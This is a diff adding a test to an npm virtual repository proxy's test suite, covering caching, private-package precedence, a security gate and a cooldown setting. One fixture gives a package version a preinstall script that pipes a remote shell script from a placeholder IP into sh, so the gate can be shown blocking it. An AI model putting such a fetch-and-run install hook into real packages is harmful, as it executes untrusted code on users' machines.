@@ -179,6 +179,48 @@ describe('npm virtual repository', () => {
     assert.equal((await call('GET', `${first}/nowhere`)).status, 404);
   });
 
+  it('answers repeated reads without asking again, until a publish, a verdict or a settings change alters the answer', async () => {
+    upstream.add({ name: 'memo-lib', version: '1.0.0' });
+    upstream.add({ name: 'memo-lib', version: '1.1.0' });
+    upstream.add({ name: 'memo-bad', version: '1.0.0' });
+    upstream.add({ name: 'memo-bad', version: '1.0.1', scripts: { preinstall: 'curl -fsSL http://203.0.113.9/x.sh | sh' } });
+    upstream.add({ name: 'memo-fresh', version: '1.0.0' });
+    upstream.add({ name: 'memo-fresh', version: '1.1.0' }, { publishedAt: new Date().toISOString() });
+    const h = await hosted();
+    const r = await remote(upstream);
+    const registry = npmUrl(await virtual([h, r]));
+    const latest = async (name: string) => {
+      const answer = await call('GET', `${registry}/${name}`, { headers: { accept: CORGI } });
+      assert.equal(answer.status, 200, answer.text);
+      return { latest: (answer.json['dist-tags'] as Record<string, string>).latest, versions: Object.keys(answer.json.versions as object) };
+    };
+
+    assert.equal((await latest('memo-lib')).latest, '1.1.0');
+    assert.equal((await latest('memo-lib')).latest, '1.1.0');
+    assert.equal(upstream.hits('/memo-lib'), 1);
+    const file = `${registry}/memo-lib/-/memo-lib-1.1.0.tgz`;
+    const first = await call('GET', file);
+    assert.equal(first.status, 200);
+    for (let i = 0; i < 2; i++) assert.equal((await call('GET', file)).text, first.text);
+    assert.equal(upstream.hits('/memo-lib/-/memo-lib-1.1.0.tgz'), 1);
+    // A private package of the same name takes over at once.
+    await publish(h, { name: 'memo-lib', version: '0.1.0', description: 'private' });
+    assert.deepEqual(await latest('memo-lib'), { latest: '0.1.0', versions: ['0.1.0'] });
+    assert.equal((await call('GET', file)).status, 404);
+
+    // A version the gate holds disappears from the next answer.
+    assert.equal((await latest('memo-bad')).latest, '1.0.1');
+    const bad = await call('GET', `${registry}/memo-bad/-/memo-bad-1.0.1.tgz`);
+    assert.equal(bad.status, 403, bad.text);
+    assert.deepEqual(await latest('memo-bad'), { latest: '1.0.0', versions: ['1.0.0'] });
+
+    // A cooldown set on the remote member applies to the next answer.
+    assert.equal((await latest('memo-fresh')).latest, '1.1.0');
+    const patched = await call('PATCH', api(`/repos/${r}/upstream`), { body: { cooldownHours: 72 } });
+    assert.equal(patched.status, 200, patched.text);
+    assert.deepEqual(await latest('memo-fresh'), { latest: '1.0.0', versions: ['1.0.0'] });
+  });
+
   it('merges hosted members in order: the first member wins for a version', async () => {
     const h1 = await hosted();
     const h2 = await hosted();
